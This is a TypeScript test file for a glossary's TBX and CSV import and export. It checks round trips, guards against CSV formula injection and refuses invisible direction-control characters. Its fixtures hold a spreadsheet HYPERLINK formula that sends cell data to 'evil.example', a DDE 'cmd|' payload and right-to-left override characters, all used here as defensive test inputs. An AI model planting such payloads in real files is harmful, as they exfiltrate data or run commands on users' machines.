import { parse } from "csv-parse/sync";
import { beforeEach, describe, expect, it } from "vitest";
import { ImportError } from "@/lib/core/import-error";
import { db } from "@/lib/db";
import { writeGlossaryCsv } from "@/lib/exchange/glossary-csv";
import { readExchangeFile } from "@/lib/exchange/read-exchange-file";
import { writeTbx } from "@/lib/exchange/tbx";
import { newTermSchema, type NewTerm } from "@/lib/glossary/new-term";
import { storeTerms } from "@/lib/glossary/store-terms";
import { glossary } from "@/prisma/seed/glossary";
import { utf8 } from "../support/files";
import { snapshotTables } from "../support/snapshot";

/** The seed glossary as an import gives it back: validated, forms listed. */
const seedTerms = glossary.map((term) => newTermSchema.parse(term));

/** A term made to trip CSV and XML writers: quotes, commas, line breaks, markup characters. */
const awkward: NewTerm = {
  slug: "accordo-di-difesa",
  kind: "concept",
  termIt: 'accordo "di difesa", bilaterale',
  termEn: "defence <pact> & treaty",
  definitionIt: 'Un accordo, detto "di difesa";\nsu due righe, con «virgolette».',
  definitionEn: 'An agreement, called "defence";\non two lines, with ‘quotes’.',
  formsIt: ['accordo "di difesa", bilaterale', "accordi di difesa"],
  formsEn: ["defence <pact> & treaty"],
};

function readTerms(text: string, fileName: string) {
  const file = readExchangeFile(utf8(text), fileName);
  if (file.kind !== "terms") throw new Error(`read as ${file.kind}`);
  return file.terms;
}

describe.each([
  { name: "TBX", write: writeTbx, fileName: "glossary.tbx" },
  { name: "CSV", write: writeGlossaryCsv, fileName: "glossary.csv" },
])("$name round trip", ({ write, fileName }) => {
  it("gives back every term of the real glossary exactly, forms in order", () => {
    expect(readTerms(write(seedTerms), fileName)).toEqual(seedTerms);
  });

  it("keeps quotes, commas, line breaks and markup characters", () => {
    const term = newTermSchema.parse(awkward);
    expect(readTerms(write([term]), fileName)).toEqual([term]);
  });
});

describe("our TBX", () => {
  it("names each headword once, and marks a headword that texts never use so it stays out of the forms", () => {
    const file = writeTbx(seedTerms);
    const sets = [...file.matchAll(/<langSet xml:lang="(it|en)">([\s\S]*?)<\/langSet>/g)];
    expect(sets).toHaveLength(seedTerms.length * 2);
    // A headword is written once per language section, not again as a variant, unless it is a later form (its place kept).
    const repeated = sets.filter(([, , body]) => {
      const terms = [...body!.matchAll(/<term>([^<]*)<\/term>/g)].map((match) => match[1]);
      return terms.indexOf(terms[0]) !== terms.lastIndexOf(terms[0]);
    });
    const laterForm = seedTerms.flatMap((term) => [
      (term.formsIt ?? []).indexOf(term.termIt) > 0,
      (term.formsEn ?? []).indexOf(term.termEn) > 0,
    ]);
    expect(repeated).toHaveLength(laterForm.filter(Boolean).length);
    expect(repeated.length).toBeLessThan(5);
    // "vertice SCO di Qingdao (2018)" names an event the text calls by other words: marked, and read back without it as a form.
    const qingdao = seedTerms.find((term) => term.slug === "vertice-sco-qingdao-2018")!;
    expect(qingdao.formsIt).not.toContain(qingdao.termIt);
    expect(file).toContain(`<term>${qingdao.termIt}</term>`);
    const read = readTerms(file, "glossary.tbx").find((term) => term.slug === qingdao.slug)!;
    expect(read.formsIt).toEqual(qingdao.formsIt);
  });
});

/** A term whose every cell a spreadsheet would otherwise run as a formula, or nearly. */
const formulas: NewTerm = {
  slug: "formule",
  kind: "concept",
  termIt: '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
  termEn: "+1",
  abbreviation: "@SUM(1)",
  expansionIt: "-2",
  expansionEn: "＝1+1",
  definitionIt: "'=già con l’apostrofo",
  definitionEn: "''+two apostrophes",
  formsIt: ["-2", "'ndrangheta"],
  formsEn: ["@A1", "cmd|' /C calc'!A0"],
};

describe("glossary CSV for spreadsheets", () => {
  it("opens with a UTF-8 byte-order mark, so that Excel reads the accents, and reads its own file back", () => {
    const csv = writeGlossaryCsv(seedTerms);
    expect(csv.startsWith("\uFEFFslug,kind,termIt,")).toBe(true);
    expect(readTerms(csv, "glossary.csv")).toEqual(seedTerms);
  });

  it("writes no cell a spreadsheet would run as a formula, and reads every cell back as it was", () => {
    const term = newTermSchema.parse(formulas);
    const csv = writeGlossaryCsv([term]);
    const [, row] = parse(csv.replace(/^\uFEFF/, "")) as string[][];
    // Each cell as a spreadsheet sees it: none opens with = + - @ (or their full-width forms).
    expect(row?.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(row?.slice(2, 7)).toEqual([`'${term.termIt}`, "'+1", "'@SUM(1)", "'-2", "'＝1+1"]);
    // Text that itself opens with apostrophes before a formula character gets one more.
    expect(row?.slice(7, 11)).toEqual(["''=già con l’apostrofo", "'''+two apostrophes", "'-2\n'ndrangheta", "'@A1\ncmd|' /C calc'!A0"]);
    expect(readTerms(csv, "formulas.csv")).toEqual([term]);
  });

  it("reads a spreadsheet's CSV saved with a byte-order mark and formula guards", () => {
    const csv = "\uFEFFtermIt,termEn,definitionIt,definitionEn\r\n'=Città,'-Town,'@Definizione è qui,'Plain 'apostrophe\r\n";
    expect(readTerms(csv, "excel.csv")).toEqual([
      {
        slug: "citta",
        kind: "concept",
        termIt: "=Città",
        termEn: "-Town",
        definitionIt: "@Definizione è qui",
        definitionEn: "'Plain 'apostrophe",
        formsIt: ["=Città"],
        formsEn: ["-Town"],
      },
    ]);
  });
});

describe("glossary CSV from people and spreadsheets", () => {
  it("needs only the headwords and definitions; slug, kind and forms follow from them", () => {
    const csv =
      'termIt,termEn,definitionIt,definitionEn\r\n"Forze Armate, italiane","Armed Forces","Le forze ""armate"".","The armed forces."\r\n';
    expect(readTerms(csv, "short.csv")).toEqual([
      {
        slug: "forze-armate-italiane",
        kind: "concept",
        termIt: "Forze Armate, italiane",
        termEn: "Armed Forces",
        definitionIt: 'Le forze "armate".',
        definitionEn: "The armed forces.",
        formsIt: ["Forze Armate, italiane"],
        formsEn: ["Armed Forces"],
      },
    ]);
  });

  it("names an unknown column, a missing one, a bad row and broken quoting", () => {
    const message = (csv: string) => {
      try {
        readExchangeFile(utf8(csv), "terms.csv");
      } catch (error) {
        if (error instanceof ImportError) return `${error.code}: ${error.message}`;
      }
      return "accepted";
    };
    expect(message("termIt,termEn,definitionIt,definizione\na,b,c,d\n")).toContain("columns A Fronte does not know: definizione");
    expect(message("termIt,definitionIt,definitionEn\na,c,d\n")).toContain("lacks the column(s) termEn");
    // A definition may wait: headwords alone are a term.
    expect(message("termIt,termEn\na,b\n")).toBe("accepted");
    expect(message("termIt,termEn,definitionIt,definitionEn,kind\na,b,c,d,animal\n")).toMatch(
      /^invalid-csv: terms\.csv: row 2 was refused: .*kind/s,
    );
    expect(message('termIt,termEn,definitionIt,definitionEn\n"a,b,c,d\n')).toMatch(/^invalid-csv: terms\.csv is not valid CSV/);
    expect(message("termIt,termEn,definitionIt,definitionEn\na,b,c,d\na,e,f,g\n")).toContain(
      'row 3 has the slug "a", like a row before it',
    );
  });

  it("refuses control characters, direction controls and line breaks in headwords, as typed text would be", () => {
    const message = (row: string) => {
      try {
        readExchangeFile(utf8(`termIt,termEn,definitionIt,definitionEn,formsEn\n${row}\n`), "terms.csv");
      } catch (error) {
        if (error instanceof ImportError) return `${error.code}: ${error.message}`;
      }
      return "accepted";
    };
    // Refused as the file is read, the character named and placed (lib/core/invisible-characters.ts).
    expect(message("a,b\u202E,c,d,e")).toMatch(
      /^invisible-characters: terms\.csv, line 2, column 4: an invisible character, U\+202E RIGHT-TO-LEFT OVERRIDE\./,
    );
    expect(message("a,b,c\u2067,d,e")).toContain("line 2, column 6: an invisible character, U+2067 RIGHT-TO-LEFT ISOLATE.");
    expect(message("a,b,c,d,\u200Fe")).toContain("line 2, column 9: an invisible character, U+200F RIGHT-TO-LEFT MARK.");
    expect(message("a,b,c,d\u0085,e")).toContain("line 2, column 8: an invisible character, U+0085 CONTROL CHARACTER.");
    expect(message('"a\nb",b,c,d,e')).toMatch(/one line.*termIt/s);
    // A definition may run over lines.
    expect(message('a,b,"c\nc",d,e')).toBe("accepted");

    const tbx = (termEn: string) =>
      `<martif type="TBX-Basic"><text><body><termEntry id="a"><langSet xml:lang="it"><descrip type="definition">Def</descrip><tig><term>A</term></tig></langSet><langSet xml:lang="en"><descrip type="definition">Def</descrip><tig><term>${termEn}</term></tig></langSet></termEntry></body></text></martif>`;
    expect(() => readExchangeFile(utf8(tbx("B&#x202E;")), "terms.tbx")).toThrow(/direction control.*termEn/s);
    expect(() => readExchangeFile(utf8(tbx("B&#x9F;")), "terms.tbx")).toThrow(/control character.*termEn/s);
    expect(() => readExchangeFile(utf8(tbx("B&#1;")), "terms.tbx")).toThrow("names no character XML allows");
    expect(readExchangeFile(utf8(tbx("B")), "terms.tbx")).toMatchObject({ kind: "terms", terms: [{ termEn: "B" }] });
  });
});

describe("a TBX with one term entered twice", () => {
  const entry = (id: string, definition: string, forms: string[], source = "") =>
    `<termEntry id="${id}">${source && `<admin type="source">${source}</admin>`}<langSet xml:lang="it">${definition && `<descrip type="definition">${definition}</descrip>`}<tig><term>Afghanistan</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>${forms
      .map((form) => `<tig><term>${form}</term><termNote type="termType">variant</termNote></tig>`)
      .join(
        "",
      )}</langSet><langSet xml:lang="en"><tig><term>Afghanistan</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig><tig><term>Afghanistan</term><termNote type="termType">variant</termNote></tig></langSet></termEntry>`;
  const file = (...entries: string[]) => utf8(`<martif type="TBX-Basic"><text><body>${entries.join("")}</body></text></martif>`);

  it("makes one entry of two ids with the same headwords, every form and source kept, the first definition", () => {
    const read = readExchangeFile(
      file(
        entry("afghanistan", "", ["Afghanistan"], "ISO 3166"),
        entry("c-0042", "Stato dell’Asia centrale.", ["afgano", "Afghanistan"], "UN M49"),
      ),
      "terms.tbx",
    );
    expect(read).toMatchObject({
      kind: "terms",
      terms: [
        {
          slug: "afghanistan",
          termIt: "Afghanistan",
          definitionIt: "Stato dell’Asia centrale.",
          sources: "ISO 3166\nUN M49",
          formsIt: ["Afghanistan", "afgano"],
          formsEn: ["Afghanistan"],
        },
      ],
    });
  });

  it("still refuses two different terms under one id", () => {
    // The same id ("afghanistan"), other headwords.
    const other = entry("afghanistan", "", ["Afghanistan"]).replaceAll("Afghanistan", "Pakistan");
    expect(() => readExchangeFile(file(entry("afghanistan", "", ["Afghanistan"]), other), "terms.tbx")).toThrow(
      'has the slug "afghanistan", like a term before it',
    );
  });
});

describe("storeTerms", () => {
  beforeEach(async () => {
    await db.glossaryTerm.deleteMany();
  });

  it("adds new terms, replaces changed ones and leaves identical ones, forms included", async () => {
    const [first, second] = seedTerms;
    if (!first || !second) throw new Error("the seed glossary is empty");
    expect(await storeTerms(db, [first, second])).toEqual({ added: 2, updated: 0, unchanged: 0 });

    const changed = { ...second, definitionEn: "A corrected definition.", formsEn: ["Only this form"] };
    const awkwardTerm = newTermSchema.parse(awkward);
    expect(await storeTerms(db, [first, changed, awkwardTerm])).toEqual({ added: 1, updated: 1, unchanged: 1 });

    const stored = await db.glossaryTerm.findUnique({ where: { slug: second.slug }, include: { forms: { orderBy: { id: "asc" } } } });
    expect(stored?.definitionEn).toBe("A corrected definition.");
    expect(stored?.forms.filter((form) => form.language === "en").map((form) => form.form)).toEqual(["Only this form"]);
    expect(stored?.forms.filter((form) => form.language === "it").map((form) => form.form)).toEqual(second.formsIt);
    expect(await db.glossaryTerm.count()).toBe(3);
  });

  it("stores all or nothing: one invalid term, or two with one slug, leave the glossary as it was", async () => {
    const [first, second] = seedTerms;
    if (!first || !second) throw new Error("the seed glossary is empty");
    await storeTerms(db, [first]);
    const before = await snapshotTables(db);

    const invalid = { ...second, termIt: "" };
    await expect(storeTerms(db, [{ ...first, termEn: "Changed" }, invalid])).rejects.toThrow(/termIt/);
    await expect(storeTerms(db, [second, { ...second, termEn: "Again" }])).rejects.toThrow(
      `"${second.slug}" is used by more than one term`,
    );
    await expect(storeTerms(db, [{ ...second, definitionEn: "Reads \u202Eebisni\u202C differently." }])).rejects.toThrow(
      /direction control/,
    );
    expect(await snapshotTables(db)).toEqual(before);
  });
});
